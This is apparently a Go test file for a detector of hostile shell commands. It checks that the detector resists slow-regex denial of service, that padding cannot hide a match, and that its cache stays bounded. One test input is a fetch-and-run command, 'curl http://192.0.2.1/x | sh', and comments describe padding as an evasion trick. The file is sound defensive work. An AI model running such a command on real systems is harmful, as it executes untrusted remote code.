package detect

import (
	"go/ast"
	"go/parser"
	"go/token"
	"math/rand"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// An attacker writes the command lines: Linux takes 6 MiB of argv per
// exec, and Go's regexp reads a long text at 40–3000 KB/s per pattern, so
// a log of long execs took hours (each cost 3–11 s). The patterns now run
// on a lazy DFA (internal/lazydfa, whose fuzz target compares it with
// regexp on any expression and text).

// TestHostilePatternsOnDFA: every expression detect compiles is a
// lazydfa.Matcher, so no pattern runs on regexp's slow engine over a
// command line: a regexp.Compile or regexp.MustCompile left in the
// package's code is named with its file and line.
func TestHostilePatternsOnDFA(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	fset := token.NewFileSet()
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		src, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		f, err := parser.ParseFile(fset, name, src, 0)
		if err != nil {
			t.Fatal(err)
		}
		// a regexp.Compile whose result the same function hands to
		// lazydfa.New is fine (values.go: a rule's expression)
		handed := map[ast.Node]bool{}
		for _, d := range f.Decls {
			fn, ok := d.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			names := map[string]bool{}
			ast.Inspect(fn.Body, func(n ast.Node) bool {
				if call, ok := n.(*ast.CallExpr); ok && isSel(call.Fun, "lazydfa", "New") && len(call.Args) == 1 {
					if id, ok := call.Args[0].(*ast.Ident); ok {
						names[id.Name] = true
					}
				}
				return true
			})
			ast.Inspect(fn.Body, func(n ast.Node) bool {
				if as, ok := n.(*ast.AssignStmt); ok && len(as.Rhs) == 1 && len(as.Lhs) > 0 {
					if id, ok := as.Lhs[0].(*ast.Ident); ok && names[id.Name] {
						handed[as.Rhs[0]] = true
					}
				}
				return true
			})
		}
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok || !(isSel(call.Fun, "regexp", "MustCompile") || isSel(call.Fun, "regexp", "Compile")) || handed[call] {
				return true
			}
			t.Errorf("%s: %s runs on regexp's engine: use lazydfa", fset.Position(call.Pos()), src[fset.Position(call.Fun.Pos()).Offset:fset.Position(call.Fun.End()).Offset])
			return true
		})
	}
}

func isSel(e ast.Expr, pkg, name string) bool {
	s, ok := e.(*ast.SelectorExpr)
	if !ok || s.Sel.Name != name {
		return false
	}
	id, ok := s.X.(*ast.Ident)
	return ok && id.Name == pkg
}

// hostilePad is n bytes of words that name nothing: what an attacker puts
// around a command to make every pattern read far.
func hostilePad(n int) string {
	r := rand.New(rand.NewSource(int64(n)))
	var b strings.Builder
	for b.Len() < n {
		b.WriteByte("qzjwx"[r.Intn(5)])
		b.WriteString(strconv.Itoa(r.Intn(100000)))
		b.WriteByte(' ')
	}
	return b.String()
}

// TestHostilePaddingHidesNothing: 256 KiB of words before or after a
// command classify it as one word does: nothing is cut, and no prefilter or
// bound lets the length of the padding hide a match. (A command among
// others may be read otherwise than alone: rm -rf of a temp dir after
// other work is clean-up, so the short form has a word before it too.)
func TestHostilePaddingHidesNothing(t *testing.T) {
	pad := hostilePad(256 << 10)
	for _, tt := range classifyCases {
		want := classify("qz1; " + tt.cmd)
		if got := classify(pad + "; " + tt.cmd); got != want {
			t.Errorf("classify(256 KiB; %q) = %v, classify(qz1; …) %v", tt.cmd, got, want)
		}
		if got, want := classify(tt.cmd+" "+pad), classify(tt.cmd+" qz1"); got != want {
			t.Errorf("classify(%q 256 KiB) = %v, classify(… qz1) %v", tt.cmd, got, want)
		}
	}
}

// TestHostileClassCacheKeepsNoLongLine: the engine's classification cache
// keeps no command line longer than maxClassKey (4096 distinct lines of
// 1 MiB had it hold 4 GiB), and classifies one as the package does.
func TestHostileClassCacheKeepsNoLongLine(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	long := hostilePad(maxClassKey+1) + "; curl http://192.0.2.1/x | sh"
	if got, want := e.classify(long), classify(long); got != want {
		t.Errorf("engine %v, package %v", got, want)
	}
	e.classify("id")
	if _, ok := e.classes[long]; ok || len(e.classes) != 1 {
		t.Errorf("the cache holds %d entries, the long line among them: %v", len(e.classes), ok)
	}
}
